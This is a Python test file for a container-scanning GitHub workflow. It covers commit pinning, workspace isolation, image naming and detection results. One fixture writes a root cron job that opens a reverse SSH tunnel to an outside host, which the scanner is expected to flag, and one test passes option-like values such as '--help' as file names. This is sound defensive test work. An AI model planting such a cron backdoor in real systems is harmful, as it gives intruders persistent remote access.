"""The workflow to call: its scripts as they stand in scan.yml, with a real builder and a real engine."""

import os
import subprocess
from pathlib import Path

import pytest
import yaml

from tests.action.composite import ROOT, installed, outputs
from tests.engine_fixture import program, started_engine

JOB = yaml.safe_load((ROOT / ".github" / "workflows" / "scan.yml").read_text("utf-8"))["jobs"]["scan"]
SCRIPTS = {step["name"]: step["run"] for step in JOB["steps"] if "run" in step}
WHICH, ASIDE, BUILD = "Which commit this workflow is of", "Put it beside the workspace", "Build the image"

OTHERS = {
    ("Team/App", "Dockerfile"): "team/app",
    ("Team/App", "./Dockerfile"): "team/app",
    ("Team/App", "Images/Agent/Dockerfile"): "team/app/images/agent",
    ("Team/.Git__hub-", "Dockerfile.Agent"): "team/x.git-hub-x/dockerfile.agent",
}
"""Repository and Dockerfile, and the name of the image: one for each, for alerts know it by that, and one that Docker takes."""


def run(name: str, folder: Path, **environment: str) -> subprocess.CompletedProcess[str]:
    return subprocess.run(
        ("bash", "--noprofile", "--norc", "-e", "-c", SCRIPTS[name]),
        cwd=folder,
        env={**os.environ, **environment},
        capture_output=True,
        text=True,
        stdin=subprocess.DEVNULL,
        check=False,
    )


def test_a_runner_that_does_not_know_the_workflows_commit_is_refused(tmp_path: Path):
    """An empty `ref` would be the caller's default branch, and an empty `repository` the caller's."""
    assert run(WHICH, tmp_path, OWN_REPOSITORY="a/b", OWN_COMMIT="0" * 40).returncode == 0
    for known in ({"OWN_REPOSITORY": "a/b", "OWN_COMMIT": ""}, {"OWN_REPOSITORY": "", "OWN_COMMIT": "0" * 40}):
        done = run(WHICH, tmp_path, **known)
        assert done.returncode == 2
        assert "::error" in done.stdout


def test_the_action_is_no_part_of_what_is_scanned(tmp_path: Path):
    workspace = tmp_path / "app"
    (workspace / ".sandscan-action").mkdir(parents=True)
    (workspace / ".sandscan-action" / "action.yml").touch()
    (tmp_path / "sandscan+action").mkdir()

    assert run(ASIDE, workspace).returncode == 0
    assert list(workspace.iterdir()) == []
    assert (tmp_path / "sandscan+action" / "action.yml").is_file()
    [step] = [one for one in JOB["steps"] if one.get("id") == "sandscan"]
    assert step["uses"] == "./../sandscan+action"


@pytest.mark.engine
def test_a_dockerfile_is_built_and_its_image_scanned(sandscan: Path, tmp_path: Path):
    program("docker")
    workspace, temporary = tmp_path / "app", tmp_path / "temp"
    workspace.mkdir()
    (workspace / "cron").write_text(
        "# m h\n* * * * * root /usr/bin/" + "ssh -fN -R 0.0.0.0:2222:127.0.0.1:22 u@203.0.113.9\n"
    )
    (workspace / "the file").write_text("FROM scratch\nCOPY cron /etc/cron.d/a\nENV A=1\n")
    said = tmp_path / "output"
    said.touch()

    with started_engine() as engine:
        done = run(
            BUILD,
            workspace,
            DOCKERFILE="the file",
            CONTEXT=".",
            GITHUB_REPOSITORY="Team/App",
            GITHUB_OUTPUT=str(said),
            DOCKER_HOST=engine.host,
        )
        assert done.returncode == 0, done.stderr
        image = outputs(said.read_text())["image"]
        runner = installed(workspace, temporary, sandscan, DOCKER_HOST=engine.host)
        ran = runner.run(image=image, dockerfile="the file")
        broken = run(
            BUILD,
            workspace,
            DOCKERFILE="--help",
            CONTEXT="--help",
            GITHUB_REPOSITORY="Team/App",
            GITHUB_OUTPUT=str(said),
            DOCKER_HOST=engine.host,
        )
        named = {}
        for repository, file in OTHERS:
            (workspace / file).parent.mkdir(parents=True, exist_ok=True)
            (workspace / file).write_text("FROM scratch\nCOPY cron /etc/cron.d/a\n")
            given = {"GITHUB_REPOSITORY": repository, "GITHUB_OUTPUT": str(said), "DOCKER_HOST": engine.host}
            done = run(BUILD, workspace, DOCKERFILE=file, CONTEXT=".", **given)
            assert done.returncode == 0, done.stderr
            named[repository, file] = outputs(said.read_text())["image"]

    assert named == {which: f"docker:{name}:scan" for which, name in OTHERS.items()}
    assert image == "docker:team/app/the-file:scan"
    assert ran.answers["exit-code"] == "1", ran.log
    [error] = [one for one in ran.commands if one.name == "error"]
    assert (error.properties["file"], error.properties["line"]) == ("cron", "2")
    [log] = ran.sarif()
    assert log["runs"][0]["automationDetails"]["id"].endswith("team/app/the-file/")
    assert broken.returncode != 0, "a name is a name, whatever it begins with"
